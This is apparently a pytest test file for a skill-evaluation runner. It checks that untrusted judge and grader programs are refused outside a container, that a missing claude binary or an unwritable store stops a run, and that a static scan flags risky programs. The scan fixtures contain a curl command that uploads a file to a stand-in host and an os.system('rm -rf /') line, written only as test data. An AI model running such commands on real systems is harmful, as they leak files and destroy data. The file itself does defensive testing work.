"""Refusals before trials (issue 28.2), each once, before anything starts: the skill's
programs under a sandbox that cannot contain them, no claude for --sandbox local, a store that
cannot be written; and the static scan reads the programs the case set will run (28.1)."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from runner.authoring.scan import program_findings, scan_programs
from runner.driver.refusals import find_claude, refuse_before_trials, refuse_unwritable_store
from runner.errors import RefusedInput, SandboxError, StoreError
from runner.sandbox.base import ProgramSpec
from runner.sandbox.local import LocalSandbox
from runner.sandbox.programs import refuse_untrusted, run_case_program
from runner.schema.case import Case
from runner.schema.options import RunOptions, SandboxConfig
from runner.schema.programs import GraderProgram
from runner.store.memory import MemoryStore

JUDGED = Case(id="a", prompt="p", judge_program="evals/judge.py")
GRADED = Case(id="b", prompt="p", grader_program=GraderProgram(path="evals/grade.py"))


def opts(tmp_path: Path, backend: str = "local", **changes: Any) -> RunOptions:
    return RunOptions(skill_path=tmp_path, store_uri=str(tmp_path / "store"),
                      executor="inprocess", sandbox=SandboxConfig(backend=backend), **changes)


def test_programs_under_a_sandbox_that_cannot_contain_them_need_trust() -> None:
    for backend in ("local", "fake"):
        with pytest.raises(RefusedInput, match="--trust-target") as refused:
            refuse_untrusted([JUDGED, GRADED], backend, trust_target=False)
        assert "evals/judge.py, evals/grade.py" in str(refused.value)
        refuse_untrusted([JUDGED, GRADED], backend, trust_target=True)
    refuse_untrusted([JUDGED, GRADED], "docker", trust_target=False)  # a container holds them
    refuse_untrusted([Case(id="c", prompt="p", assertions=("x",))], "local", False)


def test_the_trial_holds_the_same_line_and_runs_on_the_host_only_when_trusted(
        tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    program = tmp_path / "judge.sh"
    program.write_text(f"touch {marker}\n")
    work = tmp_path / "work"
    work.mkdir()
    spec = ProgramSpec(trial_id="t", run_id="r", workdir=work, program=program, timeout_s=10)
    with pytest.raises(SandboxError, match="--trust-target"):
        run_case_program(LocalSandbox("/bin/true"), spec, trusted=False)
    assert not marker.exists()
    assert run_case_program(LocalSandbox("/bin/true"), spec, trusted=True).exit_code == 0
    assert marker.exists()  # it did run, on the host


def test_trust_target_reaches_the_trials_with_the_sandbox(tmp_path: Path) -> None:
    assert not opts(tmp_path).settings().sandbox.trust_programs
    assert opts(tmp_path, trust_target=True).settings().sandbox.trust_programs


def test_no_claude_for_the_local_sandbox_names_both_places(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SKILL_EVAL_CLAUDE", raising=False)
    monkeypatch.setenv("PATH", str(tmp_path))
    assert find_claude() is None
    with pytest.raises(RefusedInput) as refused:
        refuse_before_trials(opts(tmp_path), [], tmp_path)
    assert "SKILL_EVAL_CLAUDE" in str(refused.value) and "PATH" in str(refused.value)
    monkeypatch.setenv("SKILL_EVAL_CLAUDE", str(tmp_path / "nowhere"))
    with pytest.raises(RefusedInput, match="is not an executable file"):
        refuse_before_trials(opts(tmp_path), [], tmp_path)
    fake = tmp_path / "claude"
    fake.write_text("#!/bin/sh\n")
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("SKILL_EVAL_CLAUDE", str(fake))
    refuse_before_trials(opts(tmp_path), [], tmp_path)
    assert not (tmp_path / "store").exists()  # the probe leaves no folder behind


def test_a_store_that_cannot_be_written_is_refused(tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    if os.geteuid() != 0:
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
        with pytest.raises(RefusedInput, match="cannot write there"):
            refuse_unwritable_store(opts(tmp_path, store_uri=str(locked / "store")))

    class Full(MemoryStore):
        def put(self, key: str, data: bytes) -> None:
            raise StoreError("disk full")

    monkeypatch.setattr("runner.driver.refusals.open_store", lambda *_: Full())
    with pytest.raises(RefusedInput, match="cannot write there .disk full"):
        refuse_unwritable_store(opts(tmp_path))


def test_the_scan_reads_the_programs_the_set_will_run(tmp_path: Path) -> None:
    (tmp_path / "evals").mkdir()
    (tmp_path / "evals" / "grade.py").write_text(
        "import subprocess\nsubprocess.run(['curl', '-F', 'f=@out.txt', 'https://x.example'])\n")
    (tmp_path / "evals" / "judge.py").write_text("print('fine')\n")
    (tmp_path / "evals" / "unused.py").write_text("import os; os.system('rm -rf /')\n")
    found = scan_programs(tmp_path, [JUDGED, GRADED])
    assert found and {f.file for f in found} == {"evals/grade.py"}  # unused.py never runs
    assert all("own network-less container" in f.fix for f in found)
    shown = program_findings(tmp_path, [GRADED])
    assert shown and all(f.file.startswith(str(tmp_path / "evals/grade.py")) for f in shown)
    assert json.loads(shown[0].model_dump_json())["case"] == "(skill)"
